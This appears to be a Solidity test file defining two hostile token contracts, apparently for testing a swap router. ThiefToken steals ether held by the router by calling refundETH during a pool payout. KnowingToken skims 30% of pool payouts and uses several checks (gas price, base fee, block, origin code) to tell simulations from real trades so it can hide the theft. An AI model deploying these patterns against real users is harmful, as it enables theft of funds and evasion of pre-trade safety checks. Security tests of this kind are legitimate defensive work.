// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {TestToken} from "./TestToken.sol";

interface IRouter {
    function refundETH() external payable;
}

/// Calls the router in the middle of a swap, when the pool pays it out, and takes the ether that the router holds.
contract ThiefToken is TestToken {
    address public router;
    address public pool;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, address holder, uint256 supply)
        TestToken(name_, symbol_, decimals_, holder, supply)
    {}

    receive() external payable {}

    function arm(address router_, address pool_) external {
        router = router_;
        pool = pool_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        super._transfer(from, to, value);
        if (from == pool && router.balance > 0) IRouter(router).refundETH();
    }
}

/// Keeps 30 % of what a pool pays out, unless it takes the call for a trial.
contract KnowingToken is TestToken {
    enum Clue {
        Nothing,
        CodeOfReceiver,
        CodeOfOrigin,
        GasPrice,
        BaseFee,
        Block,
        Time,
        Random,
        GasLeft,
        Always
    }

    address public pool;
    Clue public clue;
    uint256 public blockNumber;
    uint256 public timestamp;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, address holder, uint256 supply)
        TestToken(name_, symbol_, decimals_, holder, supply)
    {}

    function arm(address pool_, Clue clue_) external {
        (pool, clue, blockNumber, timestamp) = (pool_, clue_, block.number, block.timestamp);
    }

    function _isTrial(address to) private view returns (bool) {
        if (clue == Clue.Nothing) return true;
        if (clue == Clue.CodeOfReceiver) return to.code.length > 0;
        if (clue == Clue.CodeOfOrigin) return tx.origin.code.length > 0;
        if (clue == Clue.GasPrice) return tx.gasprice == 0 || tx.gasprice < block.basefee;
        if (clue == Clue.BaseFee) return block.basefee == 0;
        if (clue == Clue.Block) return block.number == blockNumber;
        if (clue == Clue.Time) return block.timestamp == timestamp;
        if (clue == Clue.Random) return block.prevrandao == 0;
        if (clue == Clue.GasLeft) return gasleft() > 1_500_000;
        return false;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 kept = from != pool || _isTrial(to) ? 0 : value * 3 / 10;
        super._transfer(from, to, value - kept);
        if (kept > 0) super._transfer(from, address(this), kept);
    }
}
